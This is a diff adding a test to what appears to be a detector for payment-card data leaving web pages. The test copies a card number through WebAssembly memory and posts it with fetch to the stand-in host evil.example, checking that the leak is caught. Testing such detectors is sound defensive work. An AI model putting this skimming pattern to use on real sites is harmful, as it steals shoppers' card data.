@@ -95,6 +95,15 @@ it('sees the card leave by every way that a page has', async () => {
   })
 })
 
+it('sees a card that goes through the memory of WebAssembly', async () => {
+  // A module with nothing but a memory of one page that it exports.
+  const told = await run(`
+    const { memory } = new WebAssembly.Instance(new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0,5,3,1,0,1,7,10,1,6,109,101,109,111,114,121,2,0]))).exports
+    ${withCard(`const { written } = new TextEncoder().encodeInto(card, new Uint8Array(memory.buffer, 8))
+    fetch('https://evil.example/', { method: 'POST', body: memory.buffer.slice(8, 8 + written) })`)}`)
+  expect(all(told, 'sends').map(({ what, to }) => `${what} ${to}`)).toEqual(['card evil.example'])
+})
+
 it('sees a card that is handed to a frame of another host, and one that a browser would not let go to plain http', async () => {
   const told = await run(`
     const frame = document.createElement('iframe')
